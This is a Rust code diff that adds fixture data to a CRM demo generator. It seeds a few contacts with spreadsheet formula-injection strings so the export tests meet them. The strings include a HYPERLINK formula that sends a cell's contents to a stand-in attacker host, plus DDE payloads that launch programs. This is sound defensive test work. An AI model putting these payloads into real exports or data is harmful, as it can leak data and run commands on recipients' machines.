@@ -604,6 +604,20 @@ const PT_LAST: &[&str] = &[
     "Moreira",
 ];
 
+/// Names a CRM really receives from web forms: text a spreadsheet would run as a formula. A few contacts of every
+/// tenant carry one (by their position, so the rest of the data is unchanged) so that the export tests meet them.
+pub(crate) const HOSTILE: [(usize, &str); 4] = [
+    (5, "=HYPERLINK(\"http://attacker.invalid/?leak=\"&A1,\"Click here\")"),
+    (42, "+cmd|' /C calc'!A0"),
+    (99, "-2+3+cmd|' /C notepad'!A0"),
+    (314, "@SUM(1+9)*cmd|' /C calc'!A0"),
+];
+
+/// The hostile name the contact at `index` (within its tenant) carries, if any.
+pub(crate) fn hostile(index: usize) -> Option<&'static str> {
+    HOSTILE.iter().find(|(i, _)| *i == index).map(|(_, name)| *name)
+}
+
 fn pick<'a>(rng: &mut DemoRng, list: &[&'a str]) -> &'a str {
     list[rng.gen_range(0..list.len())]
 }
